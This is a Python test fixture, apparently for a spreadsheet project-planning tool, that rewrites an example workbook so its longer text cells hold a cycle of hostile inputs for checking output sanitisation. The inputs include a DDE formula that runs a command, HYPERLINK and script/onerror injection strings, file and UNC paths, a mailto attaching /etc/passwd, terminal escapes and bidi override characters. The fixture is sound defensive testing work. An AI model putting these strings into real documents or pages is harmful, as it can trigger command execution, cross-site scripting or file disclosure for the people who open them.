"""The filled example plan, with every longer text replaced by one that wants to do something."""

from functools import cache
from io import BytesIO
from itertools import cycle

import openpyxl

from sheetpm.languages import Language
from sheetpm.reference.example import example_bytes

MARK = "zzyzx"
"""Stands in every hostile text, so that it can be found again wherever it goes."""
TEXTS = (
    f"=cmd|'/c calc'!{MARK}1",
    f'=HYPERLINK("http://127.0.0.1/","{MARK}")',
    f"+1+{MARK}",
    f"-1+{MARK}",
    f"@{MARK}(1)",
    f"\t={MARK}",
    f"\n={MARK}",
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror={MARK}>',
    f"javascript:{MARK}()",
    f"file:///etc/{MARK}",
    f"\\\\127.0.0.1\\{MARK}",
    f"mailto:{MARK}@example.org?attach=/etc/passwd",
    f"_x001B_]0;{MARK}_x0007__x009B_31m",
    f"\u202e{MARK}\u2066",
    f"::error file=x::{MARK}",
    f"{MARK} {{0}} {{x.__class__}} %s %(x)d &A&D&[File]",
    f"_x000D_={MARK}",
)
_SHORTEST = 14
"""Shorter texts are IDs, names and words of a list, which other cells refer to."""


@cache
def hostile_plan() -> bytes:
    """The plan; the same bytes within a process."""
    book = openpyxl.load_workbook(BytesIO(example_bytes(Language.EN)))
    texts = cycle(TEXTS)
    for sheet in book.worksheets:
        first = 2 if sheet.title == "Project" else 1  # its column A names the facts
        for row in sheet.iter_rows(min_row=2, min_col=first):
            for cell in row:
                if isinstance(cell.value, str) and len(cell.value) >= _SHORTEST:
                    cell.value = next(texts)
                    cell.data_type = "s"
    target = BytesIO()
    book.save(target)
    return target.getvalue()
